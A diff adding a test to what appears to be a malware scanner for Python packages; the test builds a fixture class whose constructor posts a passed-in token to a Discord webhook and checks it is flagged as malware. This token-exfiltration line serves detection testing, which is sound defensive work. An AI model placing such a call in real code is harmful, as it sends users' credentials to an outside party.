@@ -65,3 +65,21 @@ test('a bot of the author, whose token stands in pieces in the code, is found', 
     { class: 'suspicious', score: 6, context: 'call', path: 'pkg/report.py', line: 6 },
   ]);
 });
+
+test('a token that a small client is handed and that goes to a webhook of the code is stolen, a text is not', async () => {
+  const client = (name: string): string =>
+    python(
+      'import requests',
+      "HOOK = 'https://discord.com/api/webhooks/1100000000000000000/' + 'NotARealSecret' * 5",
+      'class Client:',
+      `    def __init__(self, ${name}):`,
+      `        requests.post(HOOK, json={'content': ${name}})`,
+    );
+
+  expect(await inspect('throwaway-host', wheel({ 'pkg/client.py': client('token') }))).toMatchObject([
+    { class: 'malware', score: 10, line: 5 },
+  ]);
+  expect(await inspect('throwaway-host', wheel({ 'pkg/client.py': client('text') }))).toMatchObject([
+    { class: 'suspicious', score: 6 },
+  ]);
+});
